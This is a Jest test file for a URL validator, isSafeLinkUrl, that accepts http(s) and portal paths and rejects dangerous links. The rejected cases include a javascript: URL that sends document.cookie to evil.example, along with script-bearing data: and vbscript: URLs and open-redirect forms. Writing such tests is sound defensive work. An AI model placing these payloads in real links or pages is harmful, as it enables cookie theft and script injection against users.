import { isSafeLinkUrl } from './safeLinks';

describe('isSafeLinkUrl', () => {
  it('takes http(s) addresses and portal paths, nothing that runs or leaves by another scheme', () => {
    for (const url of [
      'https://docs.example.com/runbook',
      'HTTP://intranet/wiki',
      '/catalog/default/component/payments-api',
    ]) {
      expect(isSafeLinkUrl(url)).toBe(true);
    }
    for (const url of [
      // eslint-disable-next-line no-script-url -- the address that must never be linked
      'javascript:fetch("//evil.example/"+document.cookie)',
      ' javascript:alert(1)',
      'data:text/html,<script>alert(1)</script>',
      '//evil.example/path',
      '/\\evil.example',
      'vbscript:msgbox',
      '',
    ]) {
      expect(isSafeLinkUrl(url)).toBe(false);
    }
  });
});
